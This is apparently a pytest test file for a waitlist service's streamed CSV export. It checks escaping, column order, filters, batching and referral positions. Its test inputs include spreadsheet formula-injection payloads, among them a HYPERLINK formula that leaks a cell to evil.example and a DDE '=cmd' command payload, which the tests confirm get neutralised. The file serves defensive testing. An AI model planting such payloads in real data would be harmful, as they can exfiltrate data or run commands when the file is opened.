"""`GET .../entries/export.csv`: every matching entry as CSV, streamed in batches, safe to
open in a spreadsheet."""

from datetime import timedelta

import pytest
from sqlalchemy import event

from waitline.db.models import Waitlist, Workspace
from waitline.entries import line
from waitline.entries.admin import EntryFilters
from waitline.entries.service import WaitlistContext
from waitline.imports import service
from waitline.imports.csv_format import FORMULA_LIKE
from waitline.kit.clock import iso

TRICKY_NAMES = [
    "Doe, Jane",
    'Ada "the Countess" Lovelace',
    "Two\nLines",
    "Party 🎉 Person",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+1 Plus",
    "-1 Minus",
    "@SUM(A1:A2)",
    "'=already quoted",
]


def test_tricky_names_open_in_the_csv_module_and_no_cell_is_a_live_formula(
    open_waitlist, join, csv_io
):
    waitlist = open_waitlist()
    for i, name in enumerate(TRICKY_NAMES):
        join(waitlist, f"person{i}@example.com", name=name)
    join(waitlist, "tabs@example.com", interest="\t=1+1", referrer="\r=2+2")

    response = csv_io.export(waitlist)

    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == (
        'attachment; filename="acme-launch-entries-2026-03-02.csv"'
    )
    rows = csv_io.parse(response.text)
    assert [row["email"] for row in rows[:-1]] == [f"person{i}@example.com" for i in range(9)]
    names = [row["name"] for row in rows[:-1]]
    assert names[:4] == TRICKY_NAMES[:4]  # commas, quotes, newlines and emoji come back whole
    assert names[4:] == ["'" + name for name in TRICKY_NAMES[4:]]
    assert (rows[-1]["interest"], rows[-1]["referrer"]) == ("'\t=1+1", "'\r=2+2")
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
            assert not FORMULA_LIKE.match(value) or value.startswith("'")


def test_columns_are_the_entry_fields_then_each_custom_field(open_waitlist, join, csv_io):
    waitlist = open_waitlist(
        referral_same_ip_credit=True,  # the test client is one IP
        custom_fields=[
            {"key": "company", "label": "Company"},
            {"key": "seats", "label": "Seats", "type": "number"},
            {"key": "agree", "label": "Agree", "type": "checkbox"},
            {"key": "country", "label": "Country of birth"},  # also an entry column
        ],
    )
    ada = join(
        waitlist,
        "ada@example.com",
        name="Ada",
        phone="+44 20 7946 0000",
        interest="engines",
        referrer="a friend",
        utm={"source": "hn", "medium": "social", "campaign": "launch"},
        metadata={"company": "=cmd|' /C calc'!A0", "seats": 5, "agree": True, "country": "UK"},
    )
    join(waitlist, "bob@example.com", referral_code=ada["referral_code"])

    response = csv_io.export(waitlist)
    header = response.text.split("\r\n", 1)[0].split(",")
    rows = csv_io.parse(response.text)

    assert header == [*service.EXPORT_COLUMNS, "company", "seats", "agree", "metadata.country"]
    first, second = rows
    assert first | {"id": "", "referral_code": ""} == {
        "id": "",
        "email": "ada@example.com",
        "name": "Ada",
        "phone": "'+44 20 7946 0000",
        "interest": "engines",
        "referrer": "a friend",
        "source": "api",
        "utm_source": "hn",
        "utm_medium": "social",
        "utm_campaign": "launch",
        "referral_code": "",
        "referral_count": "1",
        "referred_by_email": "",
        "position": "1",
        "status": "pending",
        "verified": "false",
        "verified_at": "",
        "invited_at": "",
        "invited_to_app_slug": "",
        "unsubscribed_at": "",
        "country": "",
        "created_at": "2026-03-02T09:00:00Z",
        "company": "'=cmd|' /C calc'!A0",
        "seats": "5",
        "agree": "true",
        "metadata.country": "UK",
    }
    assert first["id"] == ada["id"]
    assert first["referral_code"] == ada["referral_code"]
    assert second["referred_by_email"] == "ada@example.com"
    assert second["position"] == "2"
    assert second["company"] == second["seats"] == ""


def test_the_list_filters_and_sorts_apply(open_waitlist, join, csv_io, client, tenant, clock):
    waitlist = open_waitlist()
    people = []
    for name in ("Ann", "Ben", "Cat", "Dan"):
        people.append(join(waitlist, f"{name.lower()}@example.com", name=name))
        clock.advance(hours=1)
    entries = tenant.path(f"/waitlists/{waitlist['id']}/entries")
    for person in people[1:3]:
        response = client.patch(
            f"{entries}/{person['id']}", json={"status": "approved"}, headers=tenant.auth
        )
        assert response.status_code == 200, response.text

    def emails(**params) -> list[str]:
        return [row["email"] for row in csv_io.rows(waitlist, **params)]

    assert emails(status="approved") == ["ben@example.com", "cat@example.com"]
    assert emails(search="DAN") == ["dan@example.com"]
    assert emails(created_after=iso(clock.now() - timedelta(hours=2))) == [
        "cat@example.com",
        "dan@example.com",
    ]
    assert emails(sort="-created_at") == [f"{n}@example.com" for n in ("dan", "cat", "ben", "ann")]
    bad = client.get(
        csv_io.base(waitlist) + "/entries/export.csv", params={"sort": "x"}, headers=tenant.auth
    )
    assert bad.status_code == 422
    assert bad.json()["code"] == "validation_error"


@pytest.fixture
def context(app, clock):
    def make(waitlist: dict) -> WaitlistContext:
        with app.state.db.transaction(write=False) as session:
            row = session.get(Waitlist, waitlist["id"])
            workspace = session.get(Workspace, row.workspace_id)
            return WaitlistContext.of(workspace, row, app.state.links, clock.now())

    return make


def _referral_line(open_waitlist, join, client, tenant):
    """A line whose order is not signup order: referrals move people up, one is rejected."""
    waitlist = open_waitlist(referral_boost=3, referral_same_ip_credit=True)
    people = [join(waitlist, f"p{i}@example.com", name=f"P{i}") for i in range(9)]
    for referrer in (people[6], people[6], people[8], people[0]):  # p0's score goes below 0
        people.append(
            join(
                waitlist,
                f"r{len(people)}@example.com",
                referral_code=referrer["referral_code"],
            )
        )
    response = client.patch(
        tenant.path(f"/waitlists/{waitlist['id']}/entries/{people[2]['id']}"),
        json={"status": "rejected"},
        headers=tenant.auth,
    )
    assert response.status_code == 200, response.text
    return waitlist


@pytest.mark.parametrize(
    ("sort", "filters"),
    [
        ("position", EntryFilters()),  # counted as it goes
        ("position", EntryFilters(search="r")),  # looked up per batch
        ("created_at", EntryFilters()),
        ("-referral_count", EntryFilters(status="pending")),
    ],
)
def test_positions_match_the_line_in_every_order_and_across_batches(
    open_waitlist, join, client, tenant, app, context, monkeypatch, sort, filters
):
    monkeypatch.setattr(line, "BUCKET_WIDTH", 4)  # the line spans many buckets
    waitlist = _referral_line(open_waitlist, join, client, tenant)
    listed = client.get(
        tenant.path(f"/waitlists/{waitlist['id']}/entries"),
        params={"limit": 100},
        headers=tenant.auth,
    ).json()["data"]
    expected = {entry["email"]: entry["position"] for entry in listed}
    assert sorted(p for p in expected.values() if p) == list(range(1, 13))

    batches = list(
        service.export_batches(app.state.db, context(waitlist), filters, sort, batch_size=3)
    )

    assert all(len(batch) <= 3 for batch in batches)
    email_at, position_at = (service.EXPORT_COLUMNS.index(c) for c in ("email", "position"))
    exported = {row[email_at]: row[position_at] for batch in batches for row in batch}
    assert exported
    for email, position in exported.items():
        assert position == ("" if expected[email] is None else str(expected[email])), email


def test_the_export_reads_one_batch_at_a_time(open_waitlist, join, app, context):
    """Constant memory: each batch is read when the one before has been handed on."""
    waitlist = open_waitlist()
    for i in range(5):
        join(waitlist, f"p{i}@example.com")
    reads: list[int] = []  # entries statements run by each step of the generator

    def count(conn, cursor, statement, parameters, context, executemany):
        if "FROM entries" in statement:
            reads[-1] += 1

    batches = service.export_batches(
        app.state.db, context(waitlist), EntryFilters(), "created_at", batch_size=2
    )
    engine = app.state.db.engine

    def step():
        reads.append(0)
        event.listen(engine, "before_cursor_execute", count)
        try:
            return next(batches, None)
        finally:
            event.remove(engine, "before_cursor_execute", count)

    first = step()
    join(waitlist, "late@example.com")  # joins after the first batch was read
    rest = []
    while (batch := step()) is not None:
        rest.append(batch)

    assert [len(first), *map(len, rest)] == [2, 2, 2]
    assert all(count >= 1 for count in reads[:3])  # each batch read when it was asked for
    email_at = service.EXPORT_COLUMNS.index("email")
    assert rest[-1][-1][email_at] == "late@example.com"


def test_an_empty_list_exports_only_the_header(open_waitlist, csv_io):
    response = csv_io.export(open_waitlist())
    assert response.text == ",".join(service.EXPORT_COLUMNS) + "\r\n"


def test_a_read_key_may_export(open_waitlist, join, client, tenant, csv_io):
    waitlist = open_waitlist()
    join(waitlist, "ann@example.com")
    response = client.get(csv_io.base(waitlist) + "/entries/export.csv", headers=tenant.read_auth)
    assert response.status_code == 200
    assert "ann@example.com" in response.text


def test_the_export_is_not_taken_for_an_entry_id(open_waitlist, client, tenant, csv_io):
    """The entries router's GET .../entries/{entry_id} comes after this one."""
    response = client.get(csv_io.base(open_waitlist()) + "/entries/export.csv", headers=tenant.auth)
    assert response.status_code == 200
    assert response.text.startswith("id,email,")
